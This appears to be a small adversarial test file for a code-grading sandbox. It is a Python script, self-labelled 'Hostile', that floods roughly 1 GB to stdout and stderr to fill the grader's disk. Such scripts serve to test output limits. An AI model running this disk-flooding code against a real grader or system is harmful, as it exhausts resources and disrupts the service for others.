import sys

# Hostile: prints 1 GB, half to stdout and half to stderr, hoping to fill the teacher's disk.
chunk = 'flood ' * 10922 + '\n'
for _ in range(8192):
    sys.stdout.write(chunk)
    sys.stderr.write(chunk)
